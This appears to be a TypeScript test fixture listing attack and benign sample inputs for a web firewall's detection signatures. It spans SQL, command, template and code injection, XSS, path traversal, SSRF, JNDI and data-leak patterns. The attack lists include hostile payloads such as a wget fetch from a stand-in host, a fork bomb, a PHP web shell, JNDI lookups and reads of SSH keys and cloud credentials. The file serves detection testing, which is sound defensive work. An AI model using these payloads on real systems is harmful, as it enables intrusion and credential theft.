/**
 * Payloads each signature library must flag (attack) and look-alikes it must not (benign). Shared
 * by the library tests and the policy export's tests (the enforcer regexes stand for these libraries).
 */
export const SIGNATURE_CASES: Record<string, { attack: string[]; benign: string[]; name?: string }> = {
  sqli: {
    attack: ["' OR '1'='1", "1' or 1=1--", 'lamp%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--', "x'; DROP TABLE users; --", "1 AND SLEEP(5)", "admin'--", "1;WAITFOR DELAY '0:0:5'", 'JyBPUiAnMSc9JzE='],
    benign: ["O'Reilly", "children's books", 'rock & roll', 'select a size', 'Drop me a line', 'union station', 'order by price'],
  },
  nosqli: { attack: ['{"$ne": null}', 'password[$ne]=1', '{"$where": "sleep(100)"}', "'; return true; var x='"], benign: ['price is $5', 'US$ 10'] },
  xss: {
    attack: ['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'javascript:alert(document.cookie)', '%3Csvg%2Fonload%3Dalert(1)%3E', '&lt;script&gt;alert(1)&lt;/script&gt;', '<iframe src=//evil>'],
    benign: ['a < b and c > d', 'fish & chips', 'I <3 it', 'onboarding = done'],
  },
  cmd: {
    attack: [
      '; cat /etc/passwd', 'x | id', '$(whoami)', '`uname -a`', '&& wget http://x/s.sh', 'a;/bin/sh -c id', 'cmd.exe /c dir',
      // command lines without a separator, wrapped commands, quoting and empty-expansion evasions
      'bash -c "echo test"', 'time sh -c whoami', 'nohup ifconfig', 'flock -u / whoami', 'ansible-vault decrypt secret', 'cscli alerts list',
      ";'wh'oami", 'c$@at /et$@c/pas$@swd', 'pi$()ng 127.0.0.1', 'cu$v\\r\\l google.com', 'a=/etc&&b=/passwd&&c=cat&&$c $a$b',
      // globbing, brace expansion, function definitions, aliases
      'cat /etc/pa[s]swd', '/???/?s', 'cat+/et*/*wd', '{,ip,a}', '{l,-lh}s', ':(){ :|:& };:', '() { :; }; echo', 'alias a=b', 'alias ls-al=\'ls -al\'',
      // Windows batch conditionals
      'IF EXIST C:\\pagefile.sys CMD', 'if /i "%var%"=="hello" (ECHO found)', 'IF %ERRORLEVEL% NEQ 0 echo test', 'Invoke-WebRequest http://example.com/a.ps1',
      'code=cat /etc/x', '<?xml version="1.0"?><root><a probe=";cat /etc/passwd"></a></root>', '1;.shell whoami', ';\\n.databases', '1;.\\"shell whoami', 'cd /;cd etc;column passwd', 'https://x.example/?args=env --version',
      'FOR /F "tokens=1" %% IN (a.txt) DO ECHO %%', 'if "A A" == "A A" echo same', ';at 2:00 "echo test"', "'c'url localhost",
      // variables spelling a command, parameter-expansion operators, here-strings, globs inside braces, Windows switches
      'a=c;b=at;$a$b /etc/hosts', 'echo ${PATH%%:*}', 'x=${v/a/b}', 'bash <<< "id"', 'x; bash$FOO -c id', 'x;python3<<<print(1)', '{/b??/c?t,/etc/hosts}', '&ipconfig/all',
    ],
    benign: [
      "Don't ring the bell; the baby sleeps", 'Deliver after 5pm & call first', 'tea (green)', 'ls-400 lamp', 'cat toys', 'date', 'time warner', 'a hero; more than',
      'find my order', 'set the table for 4', 'if you exist, reply', 'ifq a==b foo', 'if not defined by the user', 'your alias is not = to your name', 'page[1]', 'data[index]',
      'hello [text in brackets]', 'a[b/1234*c]', '/api/*/items', 'format=lastlog', 'language=python',
      'loc=https://x.example/?s=1&sort=ex&sort=descending', 'Meet at 2:00 at the cafe', 'v1.shell.example', 'shutdown', 'pip',
      // a path with a query string is no glob; template placeholders and labels are no shell syntax
      '/search?q=shoes', '/a/b/c?page=2&sort=asc', '/[a-z]{1,5}/', 'costs ${total}', 'Price $usd -10% today', 'Back <<< Next', '/bin/ab', 'Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119',
    ],
  },
  traversal: {
    attack: [
      '../../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '%252e%252e%252fetc%252fpasswd', '..\\..\\windows\\win.ini', '....//....//etc/passwd', '/static/..;/admin', 'file.txt%00.jpg',
      'cat /etc/subuid', '/proc/net/tcp', '/sys/class', '/root/.aws/credentials', '.ssh/id_rsa', '/path/to/.docker/secrets', '/.claude/settings.json', '/app/.cursor/mcp.json', '/.cursorignore', '/@fs/.env', '/wp-content/debug.log', 'backup.sql.zip', '/static/..;jsessionid=1/admin',
    ],
    benign: ['a.b.c', '/api/v1/files/report.pdf', '...and more', 'version 1..2', '/.well-known/openid-configuration', '/jquery.history.min.js', '/api/continue/session', '/.git/config', '/system/classes', 'firstname.dockery@host.tld', 'wait..; then go'],
  },
  ssti: { attack: ['{{7*7}}', '${7*7}', "{{config.__class__.__init__.__globals__['os']}}", '<%= 7*7 %>', '<% if True %>49<% endif %>', '{% import os %}', '${T(java.lang.Runtime).getRuntime().exec("id")}', 'class.module.classLoader.resources'], benign: ['{"a":1}', 'costs ${price}', '{{name}}'] },
  jndi: { attack: ['${jndi:ldap://x.example/a}', '${${lower:j}ndi:${lower:l}dap://x/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}', '%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D', '${::-x$}{jndi:rmi://x.example/a}'], benign: ['${HOME}', 'jndi is a java api', '{jndi: a java api}'] },
  code: {
    attack: [
      '<?php system($_GET["c"]); ?>', 'php://filter/convert.base64-encode/resource=index.php', '{"__proto__": {"admin": true}}', "require('child_process').exec('id')", 'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
      // PHP tags, functions (comments between name and parenthesis), variable and string calls, ini directives
      "<? echo 'hello'; ?>", '[php]echo "test";[/php]', '{php}test{/php}', 'posix_getpwuid(0)', 'gzinflate(base64_decode($x))', 'exec /*x*/ (blah)', 'exec #c\n (blah)',
      '$a(1)', '$$b(2)', "${'a'}(3)", "$__['o'](5)", '$foo->$bar()', '("system")("whoami")', '[system][0](ls)', "'sys'.'tem'('id')", "${'ff'}", 'allow_url_include=On', 'opcache.jit=1255',
      // JavaScript, Perl, Ruby
      '_$$ND_FUNC$$_function(){}', 'this.constructor.constructor("return process")()', 'console.info(1)', 'process["env"]', 'while(true);', 'while(!0)', '@{[system "id"]}', 'Process.spawn("id")',
      // PHP functions glued to text before them, names assembled from bare-word pieces
      'xyzgzinflate($a)', 'AAshell_exec("id")', "((sys).te.m)('id')",
      '--b\r\nContent-Disposition: form-data; name="f"; filename="shell.php"\r\n\r\n<?php ?>',
    ],
    benign: [
      'prototype design', 'system requirements', 'evaluate this', '<?xml version="1.0"?><a/>', '&lt;? should not trigger', 'Some text (in brackets).', 'costs ${price}', 'US$ 10 (approx)', '$5 (five dollars)',
      'price range (USD)', 'copy (2)', 'while (you wait)', 'engine: v8', 'a[b](c)', 'function of time', 'Pay $amount (USD) before Friday', 'is_active(true)',
      'date_range(2024-01-01,2024-02-01)', 'sodium chloride (salt)', 'Version (v1.2.3)(beta)', 'discord(2)', 'see (fig.(a).b) below',
    ],
  },
  ldap: {
    attack: ['*)(uid=*))(|(uid=*', 'admin)(|', 'x)!(sn=*', 'val)&(cn=admin', 'printer)(uid=*)', 'aaa*aaa)(cn>=bob)', 'test))(&(objectClass=*', 'username=admin)(%26(objectClass%3D*)&password=x'],
    benign: ['(&(objectCategory=group)(cn=x))', '(a+b)*c', '(1+2)+(3+4)', 'see note a) (b)', 'Some text (in brackets).', 'f(x) (y)', 'search=foo|bar'],
  },
  crlf: {
    attack: ['foo%0d%0aSet-Cookie:%20a=b', 'x\r\nLocation: http://evil', 'aaa%0aGET / HTTP/1.1', '/index.php/PHP%0Ainfo.php', '%0d%0aMAIL FROM:<a@b.com>', '%0d%0aRCPT TO:<postmaster>', '\r\na001 EXAMINE INBOX', '\r\nRETR 1', 'x%0d%0aRefresh: 0;url=http://evil', 'a%0d%0aX-Custom-Header: evil', '\r\nVRFY root', '\r\nz STORE 1:3 +FLAGS (\\Deleted)'],
    benign: ['line one\nline two', 'aaa\r\nGet foo bar', 'Top 10 songs\nlist 3 of them', 'get it', 'https://a.example/x%0Ahttps://b.example/y', 'I store 2 flags\nin the garage', 'Help\nme', '--boundary\r\nContent-Disposition: form-data; name="file"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--boundary--'],
  },
  ssrf: {
    attack: [
      'http://169.254.169.254/latest/meta-data/', 'http://127.0.0.1:8080/admin', 'http://2130706433/', 'http://0x7f000001/', 'file:///etc/passwd', 'gopher://localhost:6379/_INFO', 'http://[::1]/', 'http://metadata.google.internal/computeMetadata/v1/', 'http%3A%2F%2F10.0.0.5%2F',
      // other schemes, IPv4-mapped/compatible IPv6, zones, overflowing numbers, backslashes, Unicode look-alikes, parser confusion, url: prefix
      'rsync://[0:0:0:0:0:ffff:169.254.169.254]', 'http://[0:0:0:0:0:0:169.254.169.254]', 'http://[fe80::1%25zone1]', 'http://7147006462/', 'http://\\l\\o\\c\\a\\l\\h\\o\\s\\t/', 'irc://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ',
      'http://google.com:80 &@google.com:80# @127.88.23.245:22/', 'url:file:///etc/passwd', 'local_file://etc/x', 'http:127.0.0.1', 'localhost.localdomain/', 'lvh.me', 'data:text/html;base64,PHNjcmlwdD4=',
      // public addresses spelled as one number, and IPv6 outside the allocated global unicast block
      'http://134744072/', 'http:0x08080808', 'http://[4000::1]/', 'http://[a::b]',
      // FTP, and userinfo that reads as the trusted host before an encoded delimiter
      'ftp://files.example/x', 'ftps://evil.example/', 'http://trusted.example%2f@evil.example/', 'https://trusted.example:443%23@evil.example/',
    ],
    benign: ['https://hooks.partner.example/notify', 'https://8.8.8.8/', 'mailto:a@b.example', 'plain text', '3', 'https://example.com:1234/', 'http://foo:bar@example.com/', 'data:image/png;base64,iVBORw0KGgo=', 'https://cdn.example/a.png', 'http://[2606:4700:4700::1111]/', 'http://8.8.8.8./', 'https://first.last:pa%2fss@git.example/', 'https://trusted.example/%2f@x'],
  },
  rfi: {
    attack: ['http://203.0.113.7', 'http://198.51.100.4/x', 'https://evil.example/shell.txt?', 'http://evil.example/c99.php'],
    benign: ['https://cdn.example/a.png', 'http://203.0.113.7.nip.example/', 'see https://docs.example/guide'],
  },
  'scanner-ua': { attack: ['Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)', 'sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.0 zgrab/0.x', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)', 'gobuster/3.6'], benign: ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0', 'curl/8.4.0', 'python-requests/2.31', 'kube-probe/1.29', 'mozilla/5.0 ecairn-grabber/1.0 (+http://ecairn.com/grabber)'] },
  'probe-path': { attack: ['/.env', '/.git/config', '/wp-admin/', '/wp-content/plugins/revslider/readme.txt', '/wp-content/plugins/', '/actuator/env', '/phpmyadmin/index.php', '/backup.zip', '/cgi-bin/test.cgi', '/s72_Shell.php', '/_ignition/execute-solution', '/setup.cgi'], benign: ['/api/v1/users', '/environment', '/admin-guide.html', '/actuators', '/shellfish.php', '/api/setup', '/wp-content/plugins/wp-dark-mode/assets/fonts/Inter.ttf', '/wp-content/plugins/akismet/style.css?ver=5.3'] },
  'card-number': { attack: ['{"number":"4111 1111 1111 1111"}', 'card 5500-0000-0000-0004', '378282246310005'], benign: ['4111 1111 1111 1112', '**** **** **** 4242', '1234567890123456', 'order 20240101123456'] },
  ssn: { attack: ['"ssn": "123-45-6789"'], benign: ['000-12-3456', '666-12-3456', 'tel 555-12-34567'] },
  'password-hash': { attack: ['$2b$12$KIXQJ4b6Xn2Qe0z7x9vN2uGv1Xk3lJb0Zy8w6QvR1hT9sX2yV4cWe', '{"password":"hunter2"}', '$argon2id$v=19$m=65536,t=3,p=4$abc$def'], benign: ['{"password":""}', 'password policy'] },
  secret: { attack: ['-----BEGIN RSA PRIVATE KEY-----', 'AKIAIOSFODNN7EXAMPLE', '{"client_secret":"abcdef123456"}'], benign: ['{"client_id":"abc"}', 'public key'] },
  'stack-trace': { attack: ['at com.shop.Api.invoice(Api.java:41)', 'Traceback (most recent call last):', 'You have an error in your SQL syntax near', 'goroutine 1 [running]:'], benign: ['{"error":"not found"}', 'Internal Server Error'] },
};
